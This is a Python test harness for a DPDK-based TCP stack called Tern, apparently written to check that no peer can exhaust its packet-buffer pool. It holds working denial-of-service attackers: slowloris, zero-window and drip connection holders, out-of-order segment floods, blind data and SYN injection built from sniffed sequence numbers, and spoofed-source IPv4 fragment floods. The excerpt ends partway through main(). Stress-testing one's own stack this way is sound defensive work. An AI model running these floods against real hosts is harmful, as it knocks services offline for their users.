#!/usr/bin/env python3
"""Attackers, legitimate clients and a sampler for tests/interop/attack_test.sh
(issue 11: no peer may empty a worker's mbuf pool). Plain kernel sockets where
they suffice, AF_PACKET frames built here where a segment must be crafted; no
third-party module.

  attack.py monitor PREFIX OUT_JSONL NOW_FILE     sample Tern every 0.5 s until SIGTERM
  attack.py pool PREFIX                            mbufs of tern_pool_0 in use, once
  attack.py legit-http|legit-echo DST PORT SRC SECONDS OUT_JSON [UNTIL_FILE]
  attack.py drip|zerowin|slowloris DST PORT SRC[,SRC...] SECONDS [--connections N] [--interval-ms N] [--procs N]
  attack.py ooo DST PORT SRC[,SRC...] IFACE SECONDS [--connections N] [--segments N] [--pps N] [--procs N]
  attack.py blind DST PORT SRC IFACE SECONDS [--pps N]
  attack.py frags DST NET IFACE PREFIX SECONDS [--pps N]
  attack.py cleanup NOW_FILE LIMIT_S POOL_BASE SLACK ESTAB SINCE_EPOCH
  attack.py verdict CASE DIR                       the case's checks (exit 1 on any failure)

Attackers print "stopped <epoch>" once their attack phase ends and then keep
whatever they hold (sockets stay open, unread and silent) until SIGTERM, when
they print "summary <json>". Kernel-socket attackers reopen connections Tern
ends during the attack phase, as a persistent attacker would.

--interval-ms: the time between one connection's bytes (drip, default 2;
slowloris, default 1,500). --procs N splits an attack over N worker
processes (bench/attack: thousands of connections), each with its share of
the connections (and of ooo's --pps) and its own source address(es) of the
list (SRC[i::N]; ooo uses one source address a worker, the first of one
SRC without a list); they start together (ooo: once every worker's
connections are open and learned) and speak as one attacker (one
"stopped", one summary with the counts summed).
"""
import collections
import errno
import itertools
import json
import os
import random
import re
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import time

from attack_verdict import verdict

POOL = "tern_pool_0"
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
TCP_INFO_STATE_ESTABLISHED = 1


class Stop(Exception):
    pass


def on_term(*_):
    raise Stop()


def out(line):
    print(line, flush=True)


# ---- Tern's side: telemetry and the mempool ----------------------------------


class Telemetry:
    """DPDK's telemetry socket (what dpdk-telemetry.py speaks), one connection."""

    def __init__(self, prefix):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self.s.connect("/var/run/dpdk/%s/dpdk_telemetry.v2" % prefix)
        self.max = json.loads(self.s.recv(16384))["max_output_len"]

    def get(self, cmd):
        self.s.send(cmd.encode())
        return list(json.loads(self.s.recv(self.max)).values())[0]


def pool_in_use(prefix):
    """Mbufs of tern_pool_0 in use (ring and per-lcore caches counted), read by
    dpdk-proc-info as a secondary process: DPDK 22.11's /mempool/info has no counts."""
    r = subprocess.run(["dpdk-proc-info", "--file-prefix=" + prefix, "--no-pci", "--log-level=1", "--",
                        "--show-mempool=" + POOL], capture_output=True, text=True, check=False)
    m = re.search(r"in use \((\d+)\)", r.stdout)
    if not m:
        raise RuntimeError("dpdk-proc-info: no count for %s: %s" % (POOL, (r.stdout + r.stderr)[-300:]))
    return int(m.group(1))


def monitor(prefix, out_path, now_path, interval=0.5):
    # SIGTERM ends the loop between samples, never inside one: a
    # dpdk-proc-info killed while it attaches leaves a lock of the shared
    # memory taken, and the primary (Tern) then hangs in rte_eal_cleanup.
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
    tel = None
    with open(out_path, "a") as f:
        while not stopping:
            t = time.time()
            try:
                if tel is None:
                    tel = Telemetry(prefix)
                s = {"t": t, "in_use": pool_in_use(prefix), "eth": tel.get("/ethdev/stats,0"),
                     "stats": tel.get("/tern/stats"), "drops": tel.get("/tern/drops")}
            except (OSError, RuntimeError, ValueError, subprocess.SubprocessError) as e:
                tel = None
                s = {"t": t, "error": str(e)}
            f.write(json.dumps(s) + "\n")
            f.flush()
            if "error" not in s:
                with open(now_path + ".tmp", "w") as n:
                    n.write("%f %d %d\n" % (t, s["in_use"], s["stats"].get("CurrEstab", 0)))
                os.replace(now_path + ".tmp", now_path)
            time.sleep(max(0.0, interval - (time.time() - t)))
    return 0


def cleanup(now_path, limit, pool_base, slack, estab, t0):
    """Waits until CurrEstab <= ESTAB and the pool's in-use count <= POOL_BASE
    + SLACK in a sample taken after T0 (epoch: when the attack stopped), or
    until LIMIT s after T0."""
    last = None
    while True:
        try:
            t, in_use, cur = open(now_path).read().split()
            last = (float(t), int(in_use), int(cur))
        except (OSError, ValueError):
            pass
        if last and last[0] > t0 and last[2] <= estab and last[1] <= pool_base + slack:
            out(json.dumps({"ok": True, "seconds": round(last[0] - t0, 2), "in_use": last[1], "estab": last[2]}))
            return 0
        if time.time() - t0 > limit:
            out(json.dumps({"ok": False, "seconds": round(time.time() - t0, 2),
                            "in_use": last[1] if last else None, "estab": last[2] if last else None}))
            return 1
        time.sleep(0.25)


# ---- legitimate clients --------------------------------------------------------


def legit(kind, dst, port, src, seconds, out_path, until=None):
    """One request per connection, back to back (20 ms apart), for SECONDS or
    until the file UNTIL exists: GET /bytes/10000 from tern-httpd, or 1,000
    bytes echoed by tern-echo. Any error, timeout (3 s per operation) or
    wrong length is a failure."""
    size = 10000 if kind == "http" else 1000
    payload = bytes(random.Random(1).randrange(256) for _ in range(size))
    ok, lat, reasons = 0, [], collections.Counter()
    end = time.monotonic() + seconds
    while time.monotonic() < end and not (until and os.path.exists(until)):
        t0 = time.monotonic()
        s = socket.socket()
        try:
            s.settimeout(3)
            s.bind((src, 0))
            s.connect((dst, port))
            if kind == "http":
                s.sendall(b"GET /bytes/%d HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n" % size)
                data = b""
                while True:
                    b = s.recv(65536)
                    if not b:
                        break
                    data += b
                head, _, body = data.partition(b"\r\n\r\n")
                if not head.startswith(b"HTTP/1.1 200") or len(body) != size:
                    raise ValueError("bad response: %r, %d body bytes" % (head[:40], len(body)))
            else:
                s.sendall(payload)
                data = b""
                while len(data) < size:
                    b = s.recv(65536)
                    if not b:
                        raise ValueError("EOF after %d bytes" % len(data))
                    data += b
                if data != payload:
                    raise ValueError("echo differs")
            ok += 1
            lat.append(time.monotonic() - t0)
        except (OSError, ValueError) as e:
            reasons[type(e).__name__ + (": " + str(e) if isinstance(e, ValueError) else "")] += 1
        finally:
            s.close()
        time.sleep(0.02)
    lat.sort()
    total = ok + sum(reasons.values())
    r = {"kind": kind, "total": total, "ok": ok, "failures": dict(reasons),
         "p50_ms": round(lat[len(lat) // 2] * 1000, 1) if lat else None,
         "p99_ms": round(lat[int(len(lat) * 0.99)] * 1000, 1) if lat else None,
         "max_ms": round(lat[-1] * 1000, 1) if lat else None}
    with open(out_path, "w") as f:
        json.dump(r, f)
    return 0


# ---- kernel-socket attackers: cases 1, 3, 4 ------------------------------------


def tcp_state(s):
    try:
        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return -1


class KernelAttack:
    """Keeps up to N kernel connections to DST:PORT open (non-blocking, from
    the SRC addresses in turn); on_connect(conn) starts each, tick(conn, now)
    runs every `every` seconds per connection. A connection Tern ends (FIN or
    RST: EPOLLRDHUP/HUP/ERR) is closed with a RST and, during the attack phase,
    replaced. Nothing is ever read. The ticks come from a queue in order of
    their due time (each connection re-queued `every` s after its tick), so
    a round costs what is due, not a pass over every connection: thousands of
    connections tick on one CPU. The summary counts the ticks and how late
    they came (lag: the time past their due time), which tells whether the
    attacker kept its pace."""

    def __init__(self, dst, port, srcs, n, rcvbuf=None, nodelay=False, every=None):
        self.dst, self.port, self.srcs, self.n = dst, port, srcs, n
        self.rcvbuf, self.nodelay, self.every = rcvbuf, nodelay, every
        self.ep = select.epoll()
        self.conns = {}  # fd -> dict
        self.opened = self.connected = self.ended = self.refused = 0
        self.sent = 0
        self.k = 0
        self.due = collections.deque()  # connections in order of c["next"]
        self.ticks = 0
        self.lag_sum = self.lag_max = 0.0

    def open_one(self):
        s = socket.socket()
        s.setblocking(False)
        if self.rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.rcvbuf)
        if self.nodelay:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        src = self.srcs[self.k % len(self.srcs)]
        self.k += 1
        try:
            s.bind((src, 0))
            s.connect_ex((self.dst, self.port))
        except OSError:
            s.close()
            self.refused += 1
            return
        self.opened += 1
        self.conns[s.fileno()] = {"s": s, "up": False, "next": 0.0, "off": 0}
        self.ep.register(s.fileno(), select.EPOLLOUT | select.EPOLLRDHUP)

    def close(self, fd):
        c = self.conns.pop(fd)
        c["closed"] = True  # the due queue drops it when its turn comes
        self.ep.unregister(fd)
        c["s"].close()  # SO_LINGER 0: a RST, so the port is free again at once

    def poll(self, timeout, attacking):
        for fd, ev in self.ep.poll(timeout):
            c = self.conns.get(fd)
            if c is None:
                continue
            if ev & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                if c["up"]:
                    self.ended += 1
                else:
                    self.refused += 1
                if attacking:
                    self.close(fd)
                else:
                    self.ep.unregister(fd)  # EPOLLHUP/ERR would be reported again even with no events asked
                    c["dead"] = True
                continue
            if ev & select.EPOLLOUT and not c["up"]:
                if c["s"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    self.refused += 1
                    self.close(fd)
                    continue
                c["up"] = True
                self.connected += 1
                self.ep.modify(fd, select.EPOLLRDHUP)
                if attacking:
                    self.on_connect(c)
                c["next"] = time.monotonic() + (self.every or 0)
                if self.every and attacking:
                    self.due.append(c)

    def send(self, c, data):
        try:
            n = c["s"].send(data)
            self.sent += n
            return n
        except BlockingIOError:
            return 0
        except OSError:
            return 0  # reset: the poll reports it

    def run(self, seconds, per_round=200):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(min(per_round, self.n - len(self.conns))):
                self.open_one()
            self.poll(0.002 if self.every and self.every < 0.1 else 0.01, True)
            if self.every:
                now = time.monotonic()
                due = self.due
                while due and due[0]["next"] <= now:
                    c = due.popleft()
                    if c.get("closed"):
                        continue
                    lag = now - c["next"]
                    self.ticks += 1
                    self.lag_sum += lag
                    self.lag_max = max(self.lag_max, lag)
                    self.tick(c, now)
                    c["next"] = now + self.every
                    due.append(c)
        out("stopped %f" % time.time())
        # The attacker goes silent, its sockets stay open and unread: only
        # Tern's own limits can end these connections now.
        alive_at_stop = self.alive()
        t_stop = time.monotonic()
        last_end = None
        try:
            while True:
                before = self.ended
                self.poll(0.2, False)
                if self.ended != before:
                    last_end = time.monotonic() - t_stop
        except Stop:
            pass
        out("summary " + json.dumps({
            "opened": self.opened, "connected": self.connected, "ended_by_tern": self.ended,
            "refused_or_failed": self.refused, "bytes_sent": self.sent, "alive_at_stop": alive_at_stop,
            "alive_at_end": self.alive(), "last_end_after_stop_s": round(last_end, 2) if last_end else None,
            "ticks": self.ticks, "lag_mean_ms": round(1000 * self.lag_sum / self.ticks, 1) if self.ticks else None,
            "lag_max_ms": round(1000 * self.lag_max, 1), "interval_ms": round(1000 * (self.every or 0), 1),
            "seconds": seconds}))

    def alive(self):
        return sum(1 for c in self.conns.values()
                   if c["up"] and not c.get("dead") and tcp_state(c["s"]) == TCP_INFO_STATE_ESTABLISHED)


class Drip(KernelAttack):
    """Case 1: SO_RCVBUF 4096, TCP_NODELAY, a request for 1 GiB whose response
    is never read, then one byte every 2 ms of a head that never ends. Paced
    slower than that (--interval-ms, bench/attack's thousands of
    connections), the first request goes at once, so that each connection
    holds a response (and a slot tern-httpd does not evict for a newcomer)
    from the start rather than after 45 intervals; only the second head drips."""
    FIRST = b"GET /bytes/1073741824 HTTP/1.1\r\nHost: t\r\n\r\n"
    HEAD = FIRST + b"GET /bytes/1 HTTP/1.1\r\nX-Pad: "

    def on_connect(self, c):
        if self.every > 0.002:
            c["off"] += self.send(c, self.FIRST)

    def tick(self, c, now):
        b = self.HEAD[c["off"]:c["off"] + 1] if c["off"] < len(self.HEAD) else b"a"
        c["off"] += self.send(c, b)


class ZeroWindow(KernelAttack):
    """Case 3: SO_RCVBUF 4096, one request for 1 GiB, never read."""

    def on_connect(self, c):
        self.send(c, b"GET /bytes/1073741824 HTTP/1.1\r\nHost: t\r\n\r\n")


class Slowloris(KernelAttack):
    """Case 4: a request line, then one header byte every 1.5 s, never complete."""
    TRICKLE = b"X-a: b\r\n"

    def on_connect(self, c):
        self.send(c, b"GET / HTTP/1.1\r\nHost: t\r\n")

    def tick(self, c, now):
        c["off"] += self.send(c, self.TRICKLE[c["off"] % len(self.TRICKLE):][:1])


# ---- crafted segments: cases 2, 5, 6 ---------------------------------------------


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload, ident, frag=0x4000):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident & 0xFFFF, frag, 64, proto, 0, src, dst)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def tcp(src, dst, sport, dport, seq, ack, flags, win, options=b"", payload=b""):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                    ((20 + len(options)) // 4) << 4, flags, win, 0, 0) + options
    c = csum(struct.pack("!4s4sBBH", src, dst, 0, 6, len(h) + len(payload)) + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload


def ts_option(tsval, tsecr):
    return b"\x01\x01\x08\x0a" + struct.pack("!II", tsval, tsecr)


def parse_tcp(frame):
    """(ip src, ip dst, sport, dport, seq, ack, flags, win, tsval, tsecr, payload length) or None."""
    if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ihl = (frame[14] & 0x0F) * 4
    tot = struct.unpack("!H", frame[16:18])[0]
    t = 14 + ihl
    sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", frame[t:t + 16])
    doff = (off >> 4) * 4
    tsval = tsecr = None
    o, end = t + 20, t + doff
    while o < end:
        kind = frame[o]
        if kind == 0:
            break
        if kind == 1:
            o += 1
            continue
        ln = frame[o + 1]
        if ln < 2:
            break
        if kind == 8 and ln == 10:
            tsval, tsecr = struct.unpack("!II", frame[o + 2:o + 10])
        o += ln
    return (frame[26:30], frame[30:34], sport, dport, seq, ack, flags, win, tsval, tsecr, tot - ihl - doff)


def learn(sniff, src, dst, port, sports, timeout=3.0):
    """From the frames our kernel sent (AF_PACKET, PACKET_OUTGOING), each
    connection's latest: Ethernet header, SND.NXT, ACK, window, timestamps.
    Reads until the socket has nothing queued and every connection has sent
    an ACK (so the state is the newest, not the handshake's if more followed)."""
    st = {}
    sniff.setblocking(False)
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            frame, addr = sniff.recvfrom(65535)
        except BlockingIOError:
            if len(st) == len(sports) and all(v["flags"] & 0x10 for v in st.values()):
                return st
            time.sleep(0.01)
            continue
        if addr[2] != PACKET_OUTGOING:
            continue
        p = parse_tcp(frame)
        if p is None or p[0] != src or p[1] != dst or p[3] != port or p[2] not in sports:
            continue
        _, _, sport, _, seq, ack, flags, win, tsval, tsecr, ln = p
        nxt = seq + ln + (1 if flags & 0x03 else 0)  # SYN or FIN take a sequence number
        st[sport] = {"eth": frame[:14], "nxt": nxt & 0xFFFFFFFF, "ack": ack, "win": win, "tsval": tsval,
                     "tsecr": tsecr, "flags": flags}
    e = SystemExit("could not learn the connections' sequence numbers: %d of %d seen" % (len(st), len(sports)))
    e.partial = {k: v for k, v in st.items() if v["flags"] & 0x10}
    raise e


def sniffer(iface):
    # ETH_P_ALL: only such sockets see the frames the kernel sends (dev_queue_xmit_nit).
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, ETH_P_ALL))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    return s


def sender(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # protocol 0: sends, receives nothing
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def send_all(tx, frames, end, pps=None):
    """Sends frames in turn until `end` (monotonic), at most PPS a second
    (bursts every millisecond) or as fast as they go; a full device queue
    waits. FRAMES: a list (sent round and round) or an endless iterator.
    Returns the count."""
    n = 0
    t0 = time.monotonic()
    if isinstance(frames, list):
        frames = itertools.cycle(frames)
    frame = next(frames)
    while True:
        now = time.monotonic()
        if now >= end:
            return n
        if pps:
            due = int((now - t0) * pps) + 1 - n
            if due <= 0:
                time.sleep(0.001)
                continue
        else:
            due = 256
        for _ in range(due):
            try:
                tx.send(frame)
                n += 1
                frame = next(frames)
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                time.sleep(0.0005)
                break


def hold_until_term(summary):
    out("stopped %f" % time.time())
    try:
        while True:
            time.sleep(1)
    except Stop:
        pass
    out("summary " + json.dumps(summary))


def seg_builder(src_b, dst_b, sport, port, c):
    """A function SEQ -> the frame of a one-byte data segment ("x") of the
    connection learned in C (its Ethernet header, ACK, window, timestamps)
    at sequence number SEQ. The frame is built once; only the sequence number
    and the TCP checksum change (the ones' complement sum is linear), so
    hundreds of thousands of segments cost little."""
    seg = tcp(src_b, dst_b, sport, port, 0, c["ack"], 0x18, c["win"],
              ts_option(c["tsval"], c["tsecr"]) if c["tsval"] is not None else b"", b"x")
    frame = bytearray(c["eth"] + ipv4(src_b, dst_b, 6, seg, 0))
    t = 14 + 20
    base = ~struct.unpack("!H", frame[t + 16:t + 18])[0] & 0xFFFF  # the sum with SEQ 0

    def build(seq):
        seq &= 0xFFFFFFFF
        x = base + (seq >> 16) + (seq & 0xFFFF)
        x = (x & 0xFFFF) + (x >> 16)
        x = (x & 0xFFFF) + (x >> 16)
        struct.pack_into("!I", frame, t + 4, seq)
        struct.pack_into("!H", frame, t + 16, ~x & 0xFFFF)
        return bytes(frame)
    return build


def ooo(dst, port, src, iface, seconds, n=28, segs=256, pps=14000, ready=None):
    """Case 2: N kernel connections that send nothing; for each, one-byte
    segments at SND.NXT+1, +3, +5, ... (a hole at SND.NXT, every other byte
    beyond it), SEGS per connection per round, four rounds of different
    offsets, PPS segments a second (a round every half second: the
    point is the memory they hold, not the link's capacity). Timestamps and ACK copied from the
    connection, so only the hole makes them out of order. The connections
    open 256 at a time (non-blocking), each batch's handshakes learned from
    the sniffer before the next (so that thousands fit its buffer); one that
    fails to open or to be learned is left out (and counted). READY, if
    given, is called once every connection is set up (--procs: the workers
    start sending together)."""
    dst_b, src_b = socket.inet_aton(dst), socket.inet_aton(src)
    sn = sniffer(iface)
    conns, st, failed = [], {}, 0
    for b0 in range(0, n, 256):
        batch = {}
        ep = select.epoll()
        for _ in range(b0, min(n, b0 + 256)):
            s = socket.socket()
            s.setblocking(False)
            try:
                s.bind((src, 0))
                s.connect_ex((dst, port))
            except OSError:
                s.close()
                failed += 1
                continue
            batch[s.fileno()] = s
            ep.register(s.fileno(), select.EPOLLOUT)
        end = time.monotonic() + 5
        pending = set(batch)
        while pending and time.monotonic() < end:
            for fd, _ in ep.poll(0.1):
                pending.discard(fd)
                ep.unregister(fd)
        ep.close()
        up = []
        for fd, s in batch.items():
            if fd in pending or s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                s.close()
                failed += 1
            else:
                s.setblocking(True)
                up.append(s)
        sports = {s.getsockname()[1]: s for s in up}
        try:
            got = learn(sn, src_b, dst_b, port, set(sports))
        except SystemExit as e:
            if n <= 256:
                raise  # the test's few connections: every one must be learned
            got = getattr(e, "partial", {})
        for sport, s in sports.items():
            conns.append(s)  # kept open either way: the attacker leaves them at the end
            if sport in got:
                st[sport] = got[sport]
            else:
                failed += 1
    sn.close()
    if not st:
        raise SystemExit("ooo: no connection opened and learned (%d failed)" % failed)
    if failed:
        out("ooo: %d of %d connections opened and learned; %d failed" % (len(st), n, failed))
    builders = [seg_builder(src_b, dst_b, sport, port, c) for sport, c in st.items()]
    nxt = [c["nxt"] for c in st.values()]

    def frames():
        # Round by round, segment k of every connection, then k+1: each
        # connection's segments spread over the round.
        while True:
            for r in range(4):
                for k in range(segs):
                    off = 1 + 2 * (r * segs + k)
                    for b, x in zip(builders, nxt):
                        yield b(x + off)

    if ready:
        ready()
    tx = sender(iface)
    sent = send_all(tx, frames(), time.monotonic() + seconds, pps)
    t_stop = time.time()
    for s in conns:  # the attacker leaves: FIN at the hole
        s.close()
    hold_until_term({"connections": len(st), "failed": failed, "segments_sent": sent,
                     "pps": round(sent / seconds)})
    return t_stop


def blind(dst, port, src, iface, seconds, pps=4000):
    """Case 5: one live kernel connection (an echo round trip before and after);
    between, blind segments at its 4-tuple: out-of-window data (SEQ 2^30 past
    SND.NXT) for half the time, then SYNs (random SEQ) for the other half,
    PPS a second (20,000 of each in 10 s, the issue's figure); both carry the connection's valid timestamps, so nothing
    but the sequence check (or the SYN) stops them. Prints each phase's
    span; the script counts Tern's segments to the 4-tuple in a capture."""
    dst_b, src_b = socket.inet_aton(dst), socket.inet_aton(src)
    sn = sniffer(iface)
    sport = 40000 + random.randrange(20000)
    s = socket.socket()
    s.bind((src, sport))
    s.settimeout(5)
    s.connect((dst, port))

    def round_trip(tag):
        msg = (b"live-%s-" % tag) * 10
        s.sendall(msg)
        got = b""
        while len(got) < len(msg):
            b = s.recv(65536)
            if not b:
                raise SystemExit("the live connection ended (%s)" % tag)
            got += b
        if got != msg:
            raise SystemExit("the live connection echoed wrong bytes (%s)" % tag)

    round_trip(b"before")
    time.sleep(0.3)  # the kernel's ACK of the echo: the latest state to copy
    c = learn(sn, src_b, dst_b, port, {sport}, 2.0)[sport]
    sn.close()
    ts = ts_option(c["tsval"], c["tsecr"]) if c["tsval"] is not None else b""
    rng = random.Random(5)
    data = [c["eth"] + ipv4(src_b, dst_b, 6, tcp(src_b, dst_b, sport, port,
                                                c["nxt"] + (1 << 30) + rng.randrange(1 << 20), c["ack"], 0x18,
                                                c["win"], ts, b"blind-payload!!!"), rng.randrange(65536))
            for _ in range(512)]
    syns = [c["eth"] + ipv4(src_b, dst_b, 6, tcp(src_b, dst_b, sport, port, rng.randrange(1 << 32), 0, 0x02,
                                                64240, b"\x02\x04\x05\xb4" + ts), rng.randrange(65536))
            for _ in range(512)]
    tx = sender(iface)
    half = seconds / 2
    a0 = time.time()
    na = send_all(tx, data, time.monotonic() + half, pps)
    a1 = time.time()
    time.sleep(1)  # a gap, so that no answer is counted in the wrong phase
    b0 = time.time()
    nb = send_all(tx, syns, time.monotonic() + half, pps)
    b1 = time.time()
    time.sleep(0.5)
    try:
        round_trip(b"after")
        alive = True
    except (OSError, SystemExit) as e:
        out("live connection after the attack: %s" % e)
        alive = False
    s.close()
    hold_until_term({"sport": sport, "oow_sent": na, "oow_span": [a0, a1], "syn_sent": nb, "syn_span": [b0, b1],
                     "live_after": alive})


def frags(dst, net, iface, prefix, seconds, pps=0):
    """Case 6: IPv4 fragments that never complete (offsets 0..6 x 8 bytes, MF
    always set: 7 of a datagram's fragments, never the last), UDP, from
    spoofed sources NET.100-249 with fresh IDs, PPS a second or (0) as fast
    as they go. Nothing in the kernel sees them: the frames leave through an
    AF_PACKET socket, to Tern's MAC (from its telemetry)."""
    tern_mac = Telemetry(prefix).get("/tern/info")["mac"]
    with open("/sys/class/net/%s/address" % iface) as f:
        my_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    eth = bytes.fromhex(tern_mac.replace(":", "")) + my_mac + b"\x08\x00"
    dst_b = socket.inet_aton(dst)
    prefix3 = socket.inet_aton(net + ".0")[:3]
    # The header's sum without ID, fragment field, source's last octet and checksum.
    fixed = csum(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, prefix3 + b"\0", dst_b)) ^ 0xFFFF
    tail = bytes(8) + bytes(60 - 14 - 28)  # 8 bytes of payload, padded to Ethernet's 60

    def frames():
        ident = dgrams = 0
        while True:
            last = 100 + dgrams % 150
            if last == 100:
                ident = (ident + 1) & 0xFFFF
            dgrams += 1
            for k in range(7):
                frag = 0x2000 | k
                c = fixed + ident + frag + last
                c = (c & 0xFFFF) + (c >> 16)
                c = (c & 0xFFFF) + (c >> 16)
                yield (eth + b"\x45\x00\x00\x1c" + struct.pack("!HHBBH", ident, frag, 64, 17, ~c & 0xFFFF) +
                       prefix3 + bytes((last,)) + dst_b + tail)

    tx = sender(iface)
    gen = frames()
    n = 0
    t0 = time.monotonic()
    end = t0 + seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * pps) + 1 - n if pps else 1024
        if due <= 0:
            time.sleep(0.001)
            continue
        for _ in range(due):
            f = next(gen)
            try:
                tx.send(f)
                n += 1
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                time.sleep(0.0005)
                break
    hold_until_term({"fragments_sent": n, "datagrams": n // 7, "pps": round(n / seconds)})


# ---- --procs: one attack split over several processes ----------------------------


def worker_share(n, procs, i):
    """Worker I's part of N connections split over PROCS workers."""
    return n // procs + (1 if i < n % procs else 0)


def worker_srcs(srcs, procs, i):
    """Worker I's source addresses: every PROCS-th of SRCS from the I-th (one
    address each when there are as many as workers: disjoint port spaces),
    or the (I mod len)-th when there are fewer."""
    return srcs[i::procs] if i < len(srcs) else [srcs[i % len(srcs)]]


def merge_summaries(sums):
    """One summary of the workers': counts summed; times, paces and spans
    their largest; the mean lag weighted by the ticks."""
    keep_max = {"last_end_after_stop_s", "lag_max_ms", "interval_ms", "seconds"}
    r = {"procs": len(sums)}
    for k in sorted({k for x in sums for k in x}):
        vals = [x[k] for x in sums if isinstance(x.get(k), (int, float)) and not isinstance(x.get(k), bool)]
        if k == "lag_mean_ms":
            w = [(x.get("ticks") or 0, x[k]) for x in sums if x.get(k) is not None]
            t = sum(a for a, _ in w)
            r[k] = round(sum(a * b for a, b in w) / t, 1) if t else None
        elif not vals:
            r[k] = None
        else:
            r[k] = max(vals) if k in keep_max else sum(vals)
    return r


def run_procs(procs, worker):
    """Runs worker(i, ready) in PROCS child processes and speaks for them as
    one attacker: their other output prefixed "worker I: ", "stopped <epoch>"
    once each has stopped (the latest), and on SIGTERM (passed on) one
    summary, merge_summaries' of theirs. A worker calls ready() once set up
    (it returns when every worker is: they attack together). The child's
    stdout is a pipe to this process; its stderr is ours."""
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
    go_r, go_w = os.pipe()
    kids = {}  # read end of the child's stdout -> (index, pid)
    for i in range(procs):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            code = 1
            try:
                signal.signal(signal.SIGTERM, on_term)
                os.close(r)
                os.close(go_w)
                for other in kids:
                    os.close(other)
                os.dup2(w, 1)
                os.close(w)

                def ready():
                    out("ready")
                    os.read(go_r, 1)  # end of file once every worker is ready

                code = worker(i, ready) or 0
            except Stop:
                code = 143
            except SystemExit as e:
                if isinstance(e.code, int):
                    code = e.code
                else:
                    print("worker %d: %s" % (i, e.code), file=sys.stderr)
            except BaseException:  # pylint: disable=broad-except
                import traceback
                traceback.print_exc()
            sys.stdout.flush()
            sys.stderr.flush()
            os._exit(code)
        os.close(w)
        kids[r] = (i, pid)
    os.close(go_r)
    bufs = {r: b"" for r in kids}
    live, ready, stopped, sums = set(kids), set(), {}, []
    said_stop = termed = False
    while live:
        if stopping and not termed:
            termed = True
            for _, pid in kids.values():
                try:
                    os.kill(pid, signal.SIGTERM)
                except ProcessLookupError:
                    pass
        try:
            rl, _, _ = select.select(list(live), [], [], 0.2)
        except InterruptedError:
            continue
        for r in rl:
            data = os.read(r, 65536)
            if not data:
                live.discard(r)
                os.close(r)
                continue
            bufs[r] += data
            while b"\n" in bufs[r]:
                line, bufs[r] = bufs[r].split(b"\n", 1)
                line = line.decode(errors="replace")
                if line == "ready":
                    ready.add(r)
                elif line.startswith("stopped "):
                    stopped[r] = float(line.split()[1])
                elif line.startswith("summary "):
                    sums.append(json.loads(line[8:]))
                else:
                    out("worker %d: %s" % (kids[r][0], line))
        if go_w is not None and all(r in ready or r not in live for r in kids):
            os.close(go_w)
            go_w = None
        if not said_stop and stopped and all(r in stopped or r not in live for r in kids):
            said_stop = True
            out("stopped %f" % max(stopped.values()))
    for _, pid in kids.values():
        os.waitpid(pid, 0)
    if sums:
        out("summary " + json.dumps(merge_summaries(sums)))
    return 0 if said_stop else 1


def kernel_attack(cmd, dst, port, srcs, n, secs, interval_ms=None):
    if cmd == "drip":
        atk = Drip(dst, port, srcs, n, rcvbuf=4096, nodelay=True,
                   every=interval_ms / 1000 if interval_ms else 0.002)
    elif cmd == "zerowin":
        atk = ZeroWindow(dst, port, srcs, n, rcvbuf=4096)
    else:
        atk = Slowloris(dst, port, srcs, n, every=interval_ms / 1000 if interval_ms else 1.5)
    atk.run(secs)
    return 0


def main():
    a = sys.argv[1:]
    if not a:
        sys.exit(__doc__)
    cmd, a = a[0], a[1:]
    signal.signal(signal.SIGTERM, on_term)
    opt = {}
    pos = []
    i = 0
    while i < len(a):
        if a[i].startswith("--"):
            opt[a[i][2:]] = int(a[i + 1])
            i += 2
        else:
            pos.append(a[i])
            i += 1
    procs = opt.get("procs", 1)
    if cmd == "monitor":
        return monitor(*pos)
    if cmd == "pool":
        out(str(pool_in_use(pos[0])))
        return 0
    if cmd == "cleanup":
        return cleanup(pos[0], float(pos[1]), int(pos[2]), int(pos[3]), int(pos[4]), float(pos[5]))
    if cmd in ("legit-http", "legit-echo"):
